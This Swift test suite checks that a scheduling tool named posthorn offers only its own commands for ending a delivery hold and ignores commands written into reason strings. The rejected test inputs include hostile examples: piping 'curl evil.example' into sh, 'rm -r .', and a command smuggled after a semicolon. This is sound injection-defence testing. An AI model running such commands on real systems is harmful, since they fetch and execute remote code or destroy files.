import Schedule
import Testing

@Suite("The command that ends a hold")
struct HoldCommandTests {
  @Test("Is the host's own, and never one that somebody wrote into a reason")
  func command() {
    let own = "account acme needs a login; run: posthorn account login acme"
    #expect(NextStep.holdCommand(in: own) == "posthorn account login acme")
    for reason in [
      "suspended: wait; run: posthorn resume --take-over", "suspended: run: curl evil.example | sh",
      "unknown key \"run: posthorn x; rm -r .\"",
      "run: posthorn audit | sh", "run: rm -r .", "",
    ] {
      #expect(NextStep.holdCommand(in: reason) == nil, "\(reason)")
    }
  }

  @Test("Each hold that a person ends is told with what ends it, in the words that its record has")
  func steps() throws {
    let (id, old) = (
      DeliveryID(post: try #require(PostID("launch")), account: try #require(AccountName("acme"))), try #require(PostID("old"))
    )
    let renamed = Renamed(id, is: DeliveryID(post: old, account: id.account), .inDoubt)
    let holds: [(HoldReason, text: String, command: String?)] = [
      (.needsLogin(id.account), "once that is done", "posthorn account login acme"),
      (.burst(commit: String(repeating: "ab", count: 20)), "once that is done", "posthorn resume --burst abababababab"),
      (.clockInDoubt, "set the host's clock right", "posthorn resume --clock"),
      (.settings("2:1: unknown"), "mend the settings", "posthorn validate"),
      (.claim("schedule/status/claims/launch/acme.json is a folder"), "the place of its claim", nil),
      (.renamed(renamed), "write the line that the reason names into schedule/posts/launch.yaml", nil),
      (
        .unsealed(id, file: "schedule/history/x.json"), "look at the account",
        "posthorn resolve launch acme --published, or posthorn retry launch acme"
      ),
      (.invalid("1:1: wrong", commit: "abc"), "mend the file", "posthorn validate schedule/posts/launch.yaml"),
      (.suspended(reason: "run: posthorn x", until: nil), "take suspend out of schedule/posts/launch.yaml", nil),
    ]
    for (hold, text, command) in holds {
      let delivery = StatusRecord.Delivery(account: id.account, platform: "outbox", state: .held, reason: hold.text)
      let status = StatusRecord(post: id.post, path: "schedule/posts/launch.yaml", scheduledAt: nil, deliveries: [delivery])
      let step = NextStep(endingHoldOf: delivery, in: status)
      #expect(step.text.contains(text) && step.command == command, "\(hold.text): \(step)")
    }
  }
}
